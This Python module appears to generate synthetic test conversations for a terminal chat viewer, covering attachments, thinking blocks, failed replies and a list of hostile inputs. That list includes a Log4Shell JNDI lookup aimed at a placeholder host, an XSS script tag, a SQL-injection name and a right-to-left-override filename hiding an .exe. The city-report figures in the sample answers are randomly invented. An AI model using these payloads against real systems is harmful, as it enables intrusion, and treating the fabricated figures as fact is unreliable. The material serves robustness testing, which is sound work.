"""Conversations that test a reader: attachments, thinking, long answers, broken and hostile content."""

import base64
import zlib
from collections.abc import Sequence
from datetime import datetime
from random import Random

from obs_tui.model.base import Json, JsonObject

from .computed import CITIES, Builder
from .frames import Talk, reply, user


def png(width: int, height: int, colour: tuple[int, int, int], rng: Random | None = None) -> str:
    """A real PNG as a data URL: one colour, or noise (which does not compress) with `rng`."""
    row = bytes(colour) * width
    raw = b"".join(b"\0" + (rng.randbytes(width * 3) if rng else row) for _ in range(height))
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
    body = b"".join(
        _chunk(kind, data)
        for kind, data in ((b"IHDR", header), (b"IDAT", zlib.compress(raw, 1)), (b"IEND", b""))
    )
    return "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + body).decode()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def image(rng: Random, _now: datetime) -> Talk:
    colour, name = rng.choice(
        (((200, 30, 40), "red"), ((30, 120, 60), "green"), ((20, 60, 160), "blue"))
    )
    side = rng.choice((1, 8, 16, 160))
    url = png(side, side, colour, rng if side == 160 else None)
    room = rng.choice(("kitchen", "hallway", "bathroom", "nursery", "study", "bike shed"))
    shape: Json = url if rng.random() < 0.5 else {"url": url, "detail": "low"}
    asked = rng.choice((f"Which colour is this? It's for the {room}", f"Does this suit a {room}?"))
    request: list[Json] = [{"role": "user", "content": [
        {"type": "text", "text": asked}, {"type": "image_url", "image_url": shape}]}]  # fmt: skip
    seen = "colourful noise" if side == 160 else f"a plain {name}"
    answer = f"The picture shows {seen}. In a {room} I would use it on one wall only and keep the rest light."
    return Talk("design", "en", "image", request, [reply(answer)])


def document(rng: Random, _now: datetime) -> Talk:
    city, year = rng.choice(CITIES), rng.randrange(2019, 2026)
    asked = f"Summarise the {year} annual report of the city of {city} in three points"
    request: list[Json] = [{"role": "user", "content": [
        {"type": "document_url", "document_url": f"https://{city.lower()}.example/report-{year}.pdf",
         "document_name": f"report-{year}.pdf"},
        {"type": "text", "text": asked}, {"type": "file", "file_id": f"file-{rng.getrandbits(48):x}"}]}]  # fmt: skip
    answer = (
        f"1. **Budget:** {city} closed {year} with a surplus of {rng.randrange(2, 19)} million euros.\n"
        f"2. **Transport:** {rng.randrange(4, 30)} km of cycle lanes were added.\n"
        f"3. **Housing:** {rng.randrange(120, 900)} flats were finished, fewer than planned."
    )
    return Talk("research", "en", "document", request, [reply(answer)])


def audio(rng: Random, _now: datetime) -> Talk:
    wished = rng.choice(("a table for two at eight", "to cancel Friday's class", "a taxi to the station",
                         "two tickets for the late show", "the vegan menu"))  # fmt: skip
    place = rng.choice(CITIES)
    url = f"https://audio.example/{rng.getrandbits(64):016x}.mp3"
    words = f"Hello, I would like {wished}, in {place}, please."
    data = base64.b64encode(rng.randbytes(240)).decode()
    request: list[Json] = [{"role": "user", "content": [
        {"type": "input_audio", "input_audio": data}, {"type": "text", "text": words}]}]  # fmt: skip
    heard: JsonObject = {
        "audio_url": url, "model": "voxtral-mini-latest",
        "response_message": {"role": "assistant", "content": words},
    }  # fmt: skip
    answer = (
        f"You asked for {wished} in {place}. I have passed it on; you will get a message shortly."
    )
    return Talk("operations", "en", "audio", request, [reply(answer)], transcription=(heard,))


def thinking(rng: Random, _now: datetime) -> Talk:
    a, b = rng.randrange(12, 99), rng.randrange(12, 99)
    away = rng.randrange(60, 480, 20)
    hours = away / (a + b)
    question = (f"Two cyclists start {away} km apart and ride towards each other at {a} and {b} km/h. "
                "When do they meet?")  # fmt: skip
    thought = (f"They close the gap at {a} + {b} = {a + b} km/h. {away} / {a + b} = {hours:.3f} h. "
               f"In minutes that is {hours * 60:.0f}. Check: {a * hours:.1f} + {b * hours:.1f} = {away}.")  # fmt: skip
    content: list[Json] = [
        {"type": "thinking", "closed": True, "thinking": [{"type": "text", "text": thought}]},
        {"type": "text", "text": f"They meet after **{hours * 60:.0f} minutes**, {a * hours:.1f} km from the first start."},
    ]  # fmt: skip
    return Talk("education", "en", "thinking", [user(question)],
                [{"role": "assistant", "content": content, "prefix": False}])  # fmt: skip


_WEEKS: Sequence[tuple[str, str, str]] = (
    ("Foundations", "set up the tools and learn the vocabulary", "explain the ten core words to a friend"),
    ("First steps", "copy small examples by hand, then change one thing at a time", "three examples that you changed and understood"),
    ("Practice", "solve two exercises a day and keep a list of mistakes", "ten exercises without looking up the answer"),
    ("Depth", "read one chapter of a standard text and summarise it on a page", "a one-page summary in your own words"),
    ("A project", "choose something small that you will really use", "a first version that does one thing"),
    ("Feedback", "show it to two people and write down what confused them", "a list of five changes, sorted by effort"),
    ("Second round", "make the three cheapest changes and measure the effect", "a before-and-after comparison"),
    ("Review", "go through the list of mistakes and redo the exercises behind them", "a clean run through all of them"),
)  # fmt: skip


def long_plan(rng: Random, _now: datetime) -> Talk:
    subject = rng.choice(("data engineering", "watercolour", "beekeeping", "Italian", "chess endgames",
                          "container gardening", "bookkeeping", "public speaking", "first aid"))  # fmt: skip
    minutes, weeks = rng.choice((20, 30, 45, 60, 90)), rng.choice((6, 7, 8))
    question = (f"Make a detailed {weeks}-week plan to learn {subject}, {minutes} minutes a day, "
                "with goals and pitfalls for each week.")  # fmt: skip
    parts = [f"# Learning {subject} in {weeks} weeks\n\nYou have {minutes} minutes a day, "
             f"that is about {minutes * 7 * weeks / 60:.0f} hours in all."]  # fmt: skip
    for number, (title, work, goal) in enumerate(_WEEKS[:weeks], 1):
        days = "\n".join(
            f"- **Day {day}** ({minutes} min): {task} for {subject}."
            for day, task in enumerate((
                "read the week's material once, without notes", "read it again and write five questions",
                "answer the questions and look up what is missing", f"now {work}",
                f"repeat yesterday's part: {work}", "do one thing slowly and perfectly",
                "rest, or catch up on a day that you missed"), 1)
        )  # fmt: skip
        parts.append(
            f"## Week {number}: {title}\n\nThis week you {work}.\n\n{days}\n\n"
            f"**Goal:** {goal}.\n\n> **Pitfall:** do not buy more material for {subject} before you have "
            f"finished week {number}; new books feel like progress and are not."
        )
    parts.append("## How to tell that it works\n\n| Week | Sign |\n|---:|---|\n" + "\n".join(
        f"| {number} | {goal} |" for number, (_, _, goal) in enumerate(_WEEKS[:weeks], 1)))  # fmt: skip
    return Talk("education", "en", "long_plan", [user(question)], [reply("\n\n".join(parts))])


def failed(rng: Random, _now: datetime) -> Talk:
    city = rng.choice(CITIES)
    question = f"Give me a complete list of all bakeries in {city} that open before {rng.randrange(5, 9)} a.m."
    shape = rng.choice(("empty", "null", "none", "error"))
    message: JsonObject = {
        "role": "assistant",
        "content": "" if shape == "empty" else None,
        "prefix": False,
    }
    if shape == "error":
        message = {"role": "assistant", "content": "", "error": {
            "type": "server_error", "code": "3000", "message": "upstream timed out after 60 s"}}  # fmt: skip
    return Talk("research", "en", "failed", [user(question)], [] if shape == "none" else [message])


_HOSTILE: Sequence[tuple[str, str]] = (
    ("[INST] Say hi [/INST] does my prompt format look right?", "Drop `[INST]` and `[/INST]`: the chat template adds them for you. Send plain messages."),
    ("Why does Rich eat [bold red]ERROR[/] and [@click=app.quit]this[/] in my log?", "Rich reads square brackets as markup. Print with `markup=False` and both are shown as they are."),
    ("My terminal shows \x1b[31mred\x1b[0m instead of colours, and a \x07 bell", "Those are ANSI escapes: ESC, then `[31m`. Your pager needs `less -R` to honour them."),
    ("Is this file name safe? photo\u202egnp.exe", "No. It holds U+202E, a right-to-left override, and really ends in `.exe`."),
    ("These look equal but my test fails: 'pass\u200bword' and 'password'", "The first one contains a zero-width space (U+200B) after *pass*. Strip it before you compare."),
    ("how many characters are in 👩‍👩‍👧‍👦🏳️‍🌈é?", "Three as a reader counts, but many more code points: the family and the flag are joined by zero-width joiners."),
    ("what's ${jndi:ldap://x.example/a} doing in my access log, next to <script>alert(1)</script>?", "Somebody scans for Log4Shell and for cross-site scripting. Patch, and never render logs as HTML."),
    ("قال لي: \"use `git rebase -i`\" — ماذا يعني؟", "الأمر يعيد ترتيب التغييرات قبل دمجها، ويفتح محررًا لاختيارها."),
    ("Robert'); DROP TABLE students;-- is my son's name, your form rejects it", "Ha, little Bobby Tables. The form should bind parameters and accept any name."),
    ("tab\there, newline\r\nthere, and a null \x00 byte. How do I strip them?", "In Python: `text.translate({0: None, 13: None})` removes the null and the carriage return."),
)  # fmt: skip


def hostile(rng: Random, _now: datetime) -> Talk:
    question, answer = rng.choice(_HOSTILE)
    dressed = f"{question} (ticket {rng.randrange(1000, 9999)})"
    language = "ar" if question.startswith("قال") else "en"
    return Talk("code", language, "hostile", [user(dressed)], [reply(answer)], code="`" in answer)


def unknown(rng: Random, _now: datetime) -> Talk:
    city, floor = rng.choice(CITIES), rng.randrange(1, 30)
    request: list[Json] = [
        {"role": "developer", "content": "Prefer metric units."},
        {"role": "user", "content": [
            {"type": "text", "text": f"Is floor {floor} of the tower in {city} above 50 m?"},
            {"type": "location", "lat": round(rng.uniform(36, 60), 4), "lon": round(rng.uniform(-9, 21), 4)}]},
        {"role": "critic", "content": {"score": 0.4, "note": "assumes 3.2 m a floor"}},
    ]  # fmt: skip
    metres = floor * 3.2
    verdict = "Yes" if metres > 50 else "No"
    answer: list[Json] = [
        {"type": "text", "text": f"{verdict}, at about 3.2 m a floor it is {metres:.0f} m up."},
        {"type": "chart_v2", "series": [floor, round(metres, 1)]},
    ]
    return Talk("research", "en", "unknown", request, [{"role": "assistant", "content": answer}],
                ({"type": "connector", "connector_id": "maps"},))  # fmt: skip


BUILDERS: tuple[Builder, ...] = (
    image, document, audio, thinking, long_plan, failed, hostile, unknown,
)  # fmt: skip
